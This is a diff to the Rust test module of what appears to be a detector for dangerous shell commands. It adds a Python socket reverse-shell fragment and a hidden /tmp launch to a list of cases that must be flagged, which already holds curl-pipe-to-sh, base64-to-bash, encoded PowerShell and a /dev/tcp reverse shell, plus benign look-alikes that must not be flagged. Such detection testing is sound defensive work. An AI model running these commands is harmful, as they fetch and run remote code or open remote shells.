@@ -53,6 +53,8 @@ mod tests {
             "curl -fsSL https://a.io/i | sh",
             "echo aGk= | base64 -d | bash",
             "powershell -nop -enc SQBFAFgA",
+            "python3 -c 'import socket,subprocess,os;s=1;os.dup2(s,0)'",
+            "chmod 777 /tmp/.x && nohup /tmp/.x &",
             "bash -i >& /dev/tcp/1.2.3.4/1 0>&1",
         ] {
             assert!(found(data) >= 1, "{data}");
@@ -65,6 +67,8 @@ mod tests {
             "curl https://a.io/i -o file",
             "ls | shuf",
             "cat a | sh",
+            "RUN curl | sh runs what it fetches",
+            "chmod 755 /tmp/a",
             "powershell is a shell",
             "a |shape",
         ] {
